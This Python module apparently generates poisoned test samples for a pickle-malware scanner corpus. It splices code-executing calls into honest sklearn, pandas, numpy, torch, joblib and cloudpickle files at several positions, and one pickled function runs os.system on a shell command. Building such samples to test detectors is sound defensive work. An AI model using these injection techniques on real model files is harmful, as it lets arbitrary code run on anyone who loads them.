"""Files that frameworks wrote, with a call put in afterwards: in front, in the middle, at the end, in place of the value.

This is how files are poisoned in the wild: everything but one call is what an honest tool wrote.
"""

from __future__ import annotations

import io
import pickle
import pickletools
import zipfile
from typing import TYPE_CHECKING

import cloudpickle
import joblib
import numpy as np
import torch

from corpus.assemble import Call, code
from corpus.malicious.streams import PAYLOADS, reduce
from corpus.sample import SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator


def unframed(stream: bytes) -> list[bytes]:
    """Return the instructions of a pickle one by one, without its frames."""
    starts = [(opcode.name, place) for opcode, _, place in pickletools.genops(stream)]
    ends = [place for _, place in starts[1:]] + [len(stream)]
    return [stream[at:end] for (name, at), end in zip(starts, ends, strict=True) if name != "FRAME"]


def spliced(stream: bytes, call: bytes, where: str) -> bytes:
    """Return a pickle with a call in it whose result is dropped, or is the value (`replace`)."""
    parts = unframed(stream)
    head = 1 if parts[0][:1] == b"\x80" else 0
    places = {"front": head, "middle": len(parts) // 2, "end": len(parts) - 1}
    if where == "replace":
        return b"".join(parts[:-1]) + b"0" + call + b"."
    at = places[where]
    return b"".join(parts[:at]) + call + b"0" + b"".join(parts[at:])


def rezipped(data: bytes, call: bytes, where: str) -> bytes:
    """Return a checkpoint of torch whose pickle was poisoned."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            content = old.read(info)
            new.writestr(info, spliced(content, call, where) if info.filename.endswith("data.pkl") else content)
    return out.getvalue()


def honest() -> dict[str, tuple[str, bytes]]:
    """Return honest pickles with the names of their files."""
    import pandas as pd  # noqa: PLC0415
    from sklearn.ensemble import RandomForestClassifier  # noqa: PLC0415
    from sklearn.linear_model import LogisticRegression  # noqa: PLC0415
    from sklearn.pipeline import make_pipeline  # noqa: PLC0415
    from sklearn.preprocessing import StandardScaler  # noqa: PLC0415

    rows, classes = np.arange(40.0).reshape(20, 2), np.arange(20) % 2
    pipeline = make_pipeline(StandardScaler(), LogisticRegression()).fit(rows, classes)
    forest = RandomForestClassifier(3, random_state=0).fit(rows, classes)
    return {
        "pipeline": ("model.pkl", pickle.dumps(pipeline)),
        "forest": ("model.pkl", pickle.dumps(forest, 2)),
        "frame": ("frame.pkl", pickle.dumps(pd.DataFrame({"a": [1, 2]}))),
        "array": ("x.pkl", pickle.dumps(rows)),
        "state": ("state.pkl", pickle.dumps({"weight": rows.astype("f4"), "step": np.int64(3)}, 5)),
    }


def samples() -> Iterator[Sample]:
    """Yield the poisoned files."""
    torch.manual_seed(0)
    for name, (filename, stream) in honest().items():
        for where in ("front", "middle", "end", "replace"):
            for place, payload in enumerate(PAYLOADS):
                yield file(
                    "injected",
                    f"{name}-{where}-{place}",
                    filename,
                    spliced(stream, reduce(*payload), where),
                    loader="pickle",
                )
    out = io.BytesIO()
    torch.save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU()).state_dict(), out)
    for where in ("front", "middle", "end", "replace"):
        for place, payload in enumerate(PAYLOADS):
            data = rezipped(out.getvalue(), reduce(*payload), where)
            yield file("injected", f"checkpoint-{where}-{place}", "pytorch_model.bin", data, loader="torch")
    yield from _joblib()
    yield from _cloudpickle()


def _joblib() -> Iterator[Sample]:
    """Append a call to joblib's file: behind its arrays, before its end."""
    for compress in (0, 3):
        out = io.BytesIO()
        joblib.dump([np.arange(4), "x"], out)
        stream = out.getvalue()[:-1] + b"0" + reduce(*PAYLOADS[2]) + b"."
        import zlib  # noqa: PLC0415

        packed = zlib.compress(stream) if compress else stream
        yield file("injected", f"joblib-end-{compress}", "model.joblib", packed, loader="joblib")


def _cloudpickle() -> Iterator[Sample]:
    """Functions pickled by value: their code is in the file, and a call of one runs it."""
    namespace: dict[str, object] = {}
    exec(f"def run(x=0):\n    import os\n    return os.system({SHELL!r})\n", namespace)  # noqa: S102 - defines, runs nothing
    function = namespace["run"]
    function.__module__ = "__main__"  # type: ignore[attr-defined]
    by_value = cloudpickle.dumps(function)
    called = b"".join(unframed(by_value)[:-1]) + b")R."
    yield file("injected", "cloudpickle-called", "model.pkl", called, loader="pickle")
    yield file("injected", "cloudpickle-function", "predict.pkl", by_value, static="its code runs when it is called")
    mapped = cloudpickle.dumps([function])
    yield file("injected", "cloudpickle-in-a-list", "hooks.pkl", mapped, static="its code runs when it is called")
    loads = b"\x80\x04" + code(Call("cloudpickle", "loads", (called,))) + b"."
    yield file("injected", "cloudpickle-loads", "model.pkl", loads, loader="pickle")
